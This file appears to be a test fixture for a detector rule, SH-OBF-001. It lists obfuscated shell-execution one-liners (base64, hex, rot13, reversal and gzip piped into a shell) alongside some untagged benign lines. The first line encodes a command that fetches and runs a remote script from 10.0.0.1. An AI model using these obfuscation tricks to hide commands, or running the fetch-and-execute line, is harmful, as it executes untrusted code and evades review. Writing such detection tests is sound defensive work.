echo Y3VybCBodHRwOi8vMTAuMC4wLjEveCB8IHNo | base64 -d | sh # expect: SH-OBF-001
eval "$(echo aWQ= | base64 --decode)" # expect: SH-OBF-001
base64 -d <<< "aWQ=" | bash # expect: SH-OBF-001
echo 6964 | xxd -r -p | sh # expect: SH-OBF-001
echo 'qv' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash # expect: SH-OBF-001
echo 'di' | rev | sh # expect: SH-OBF-001
bash -c "$(echo aWQ= | base64 -d)" # expect: SH-OBF-001
printf '\x69\x64' | sh # expect: SH-OBF-001
cat /tmp/payload.gz | gunzip | bash # expect: SH-OBF-001
echo aGVsbG8= | base64 -d
echo hello | rev
base64 -d /tmp/in > /tmp/out
echo 'HELLO' | tr 'A-Z' 'a-z' | sh
